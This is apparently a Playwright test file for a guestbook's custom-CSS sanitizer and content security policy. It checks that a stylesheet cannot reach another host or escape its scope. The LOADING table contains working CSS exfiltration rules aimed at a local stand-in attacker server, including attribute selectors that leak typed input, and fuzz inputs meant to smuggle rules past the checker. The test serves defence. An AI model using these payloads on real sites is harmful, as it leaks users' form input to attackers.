import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { type Browser, expect, type Page, test } from '@playwright/test'
import fc from 'fast-check'
import { judgeSheet, scoped } from '../../../src/guestbook/rules/looks/custom-css'
import { Guestbook } from '../../support/bundled/guestbook'
import { startSite } from '../../support/services/foreign-site'

/*
 * What the custom CSS of a book can do. Somebody with a leaked token writes it. Nothing may get from the page to
 * another host, and nothing outside the guestbook's element may change.
 */

let program: Guestbook
let spy: Awaited<ReturnType<typeof startSpy>>

/** A host of the attacker, which notes the paths that are asked for. */
async function startSpy() {
  const asked: string[] = []
  const server = createServer((request, response) => {
    asked.push(request.url ?? '')
    response.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/css' }).end()
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
  return { url, asked, close: () => new Promise((resolve) => server.close(resolve)) }
}

test.beforeAll(async () => {
  spy = await startSpy()
  program = await Guestbook.start()
  await program.api('PATCH', '/api/books/main', { moderation: 'none' })
  await program.api('POST', '/api/comments', { name: 'Ada', body: 'Hello' })
})

test.afterAll(async () => {
  await program.end()
  await spy.close()
})

const setCss = (css: string) => program.api<Fault>('PATCH', '/api/books/main', { css })

interface Fault {
  code?: string
  errors?: { path: string; message: string }[]
}

/** Rules that ask the spy for something, by the path that they ask for. `$` stands for its address. */
const LOADING: Record<string, string> = {
  '/import': '@import "$/import";',
  '/import-url': '@import url($/import-url);',
  '/background': 'h1 { background: url($/background) }',
  '/escaped': 'h2 { background: \\75rl($/escaped) }',
  '/variable': '.page { --x: url("$/variable") } h3 { background: var(--x) }',
  '/image-set': 'header { background: image-set("$/image-set" 1x) }',
  '/webkit-image-set': 'footer { background: -webkit-image-set(url($/webkit-image-set) 1x) }',
  '/cross-fade': 'main { background: -webkit-cross-fade(url($/cross-fade), url($/cross-fade), 50%) }',
  '/cursor': '.page { cursor: url($/cursor), auto }',
  '/list': '.page { display: list-item; list-style: url($/list) }',
  '/border': '.sign { border-image: url($/border) 1 }',
  '/mask': '.entry { mask-image: url($/mask) }',
  '/content': 'h1::before { content: url($/content) }',
  '/shape': '.stars { float: left; shape-outside: url($/shape) }',
  '/font': '@font-face { font-family: spy; src: url($/font) } .page { font-family: spy }',
  '/typed-a': 'input[name="name"][value^="A"] { background: url($/typed-a) }',
  '/typed-secret': '.sign:has(textarea:not(:placeholder-shown)) { background: url($/typed-secret) }',
}
const hostile = () => Object.values(LOADING).map((rule) => rule.replaceAll('$', spy.url))

/** Opens a page whose stylesheet was replaced, as if there were no check, and lets a guest preview an entry. */
async function previewWith(browser: Browser, path: string, css: string, bypassCSP: boolean): Promise<Page> {
  const page = await (await browser.newContext({ baseURL: program.url, bypassCSP })).newPage()
  await page.route('**/styles/main/*', (route) => route.fulfill({ contentType: 'text/css', body: css }))
  await page.goto(path)
  await page.getByLabel('Your name').fill('Alan')
  await page.getByLabel('Your message').fill('A secret')
  await page.getByRole('button', { name: 'Preview' }).click()
  await expect(page.locator('.preview')).toContainText('A secret')
  await page.getByRole('heading', { level: 1 }).hover({ force: true })
  await expect(page.locator('.page')).toHaveCSS('outline-style', 'dotted')
  await page.waitForLoadState('networkidle')
  return page
}

test('a sheet that names something to load is refused', async () => {
  for (const css of hostile()) {
    const { status, body } = await setCss(css)
    expect([css, status, body.errors?.[0]?.path]).toEqual([css, 422, 'css'])
  }
})

test('nothing is loaded from another host, even if the check of the sheet is left out', async ({ browser }) => {
  await setCss('.page { outline-style: solid }')
  const css = `${hostile().join('\n')}\n.page { outline-style: dotted }`
  for (const path of ['/', '/embed/main']) await previewWith(browser, path, css, false)
  expect(spy.asked).toEqual([])
  // Without the policy, each of the rules reaches the spy.
  await previewWith(browser, '/', css, true)
  await expect.poll(() => [...new Set(spy.asked)].sort()).toEqual(Object.keys(LOADING).sort())
})

/** The outline of elements inside and outside the scope, where a sheet draws it. */
async function outlined(page: Page): Promise<string[]> {
  return page.evaluate(() =>
    ['html', 'body', '.skip', '.page', 'h1', '.entry'].filter((selector) => {
      const element = document.querySelector(selector)
      return element !== null && getComputedStyle(element).outlineStyle === 'double'
    })
  )
}

const INSIDE: [selector: string, matches: string[]][] = [
  ['.page', ['.page']],
  ['h1', ['h1']],
  ['.page h1', ['h1']],
  ['div > header h1', ['h1']],
  [':scope', ['.page']],
  ['&', ['.page']],
  ['*, .page', ['.page', 'h1', '.entry']],
  [':not(&), :is(.skip, .entry)', ['h1', '.entry']],
  [':not(.x) &, :has(.page), .skip, & ~ *, .page ~ .skip, :scope ~ .skip', ['.page']],
  [':only-child, :first-child, :nth-child(n), :lang(en)', ['.page', 'h1', '.entry']],
]

test('a sheet changes the element of the guestbook alone, whatever it selects', async ({ browser }) => {
  const page = await (await browser.newContext({ baseURL: program.url })).newPage()
  for (const [selector, matches] of INSIDE) {
    expect((await setCss(`${selector} { outline: 3px double red !important }`)).status).toBe(200)
    await page.goto('/')
    expect([selector, await outlined(page)]).toEqual([selector, matches])
  }
})

test('a stored sheet of an earlier version works as before', async ({ browser }) => {
  const stored = '.page{--x:double}@media (min-width:1px){.page h1,.page main>.entry{outline:3px var(--x) red}}'
  expect((await setCss(stored)).status).toBe(200)
  const page = await (await browser.newContext({ baseURL: program.url })).newPage()
  for (const path of ['/', '/embed/main']) {
    await page.goto(path)
    expect(await outlined(page)).toEqual(['h1', '.entry'])
  }
})

test('a sheet covers its own page, but neither the site around a frame nor the dashboard', async ({ browser }) => {
  const cover = 'position: fixed; inset: 0; z-index: 2147483647; background: red'
  expect((await setCss(`.page { ${cover} } main { ${cover} }`)).status).toBe(200)
  const site = await startSite({ '/': { body: `<iframe src="${program.url}/embed/main" height="200"></iframe>` } })
  const page = await (await browser.newContext({ baseURL: program.url })).newPage()
  await page.goto(site.url)
  await expect(page.frameLocator('iframe').locator('main')).toHaveCSS('position', 'fixed')
  await page.getByRole('heading', { name: 'My site' }).click()
  await site.close()
  const styles: string[] = []
  page.on('request', (request) => request.url().includes('/styles/') && styles.push(request.url()))
  await page.goto('/admin')
  await page.getByLabel('Admin token').fill(program.token)
  await page.keyboard.press('Enter')
  await page.getByRole('heading', { name: 'Overview' }).click()
  expect(styles).toEqual([])
  await page.goto('/')
  expect(styles).toHaveLength(1)
})

const PIECES = [
  ...['a', '.x', '#y', ':hover', '::before', ':is(', '[x]', '*', '&', '|', '>', ',', ' ', '\n', '/*', '*/', '/', '\f'],
  ...['{', '}', '(', ')', '[', ']', ';', ':', '!', '"', "'", '\\', '\\"', "\\'", '\\\n', '-', '--', '@', '%', '.', '#'],
  ...[
    'url(',
    'url (',
    'URL(',
    '\\75 rl(',
    'u',
    'rl(',
    'url(/*',
    'url("',
    '*/)',
    'image-set(',
    'var(--x,',
    '<!--',
    '-->',
  ],
  ...['@media print{', '@import "x";', '@supports (top:0)', '@font-face{', '</style', '1', '1e', '+', 'U+', '\r', '☃'],
  ...['html{top:0}', 'a{top:0}', 'b{content:"x"', '--x:{', 'a{b:c(', '}}body{top:0}', '/* */', '{}', '()', '\\}', '}}'],
]
const soups = fc.array(fc.constantFrom(...PIECES), { maxLength: 14 }).map((pieces) => pieces.join(''))
const closed = fc.tuple(soups, soups, soups).map(([a, b, c]) => `a{${a}${b}}${c}`)

/** Brackets in what may look like a comment or a string, behind what may change how a browser reads its beginning. */
const tricks = fc.array(fc.constantFrom('<!--', '-->', '-', '1', '+', '@', '#', 'u', 'url(', '\\', '(', '☃', 'e'), {
  maxLength: 4,
})
const quotes = fc.constantFrom(['/*', '*/'], ['"', '"'], ["'", "'"], ['/*', '"'])
const hidden = fc
  .tuple(tricks, quotes, fc.constantFrom('', ')', '))', '}'))
  .map(([trick, [open, close], end]) => `a{b:${trick.join('')}${open})}}}}c{top:0}${close}${end}}`)

test('no sheet that is accepted leaves its scope, and the browser finds no other rules in it', async ({ browser }) => {
  const page = await browser.newPage()
  /** What a browser understands: the kinds of rules at the top, and of those inside. */
  const readAll = (sheets: string[]) =>
    page.evaluate((all) => {
      const kinds = (rules: CSSRuleList): string[] =>
        [...rules].flatMap((rule) => [rule.constructor.name, ...kinds((rule as CSSGroupingRule).cssRules ?? [])])
      return all.map((css) => {
        const sheet = new CSSStyleSheet()
        sheet.replaceSync(`${css}\n.after{top:0}`)
        return { top: [...sheet.cssRules].map((rule) => rule.constructor.name).join(), all: kinds(sheet.cssRules) }
      })
    }, sheets)
  const samples = fc.sample(fc.oneof(soups, closed, hidden), 60_000)
  const accepted = samples.filter((css) => judgeSheet(css).ok).map((css) => scoped(css))
  const allowed = /^CSS(?:Scope|Style|Media|Supports|Container)Rule$|^CSSNestedDeclarations$/
  const escapes = (await readAll(accepted)).map(({ top, all }, i) =>
    top === 'CSSScopeRule,CSSStyleRule' && all.every((kind) => allowed.test(kind)) ? '' : accepted[i]
  )
  expect(accepted.length).toBeGreaterThan(1_000)
  expect(escapes.filter(Boolean)).toEqual([])
  const refused = samples.filter((css) => !judgeSheet(css).ok).slice(0, 5_000)
  const others = await readAll(refused.map((css) => scoped(css)))
  expect(others.filter(({ top }) => top !== 'CSSScopeRule,CSSStyleRule').length).toBeGreaterThan(100)
})
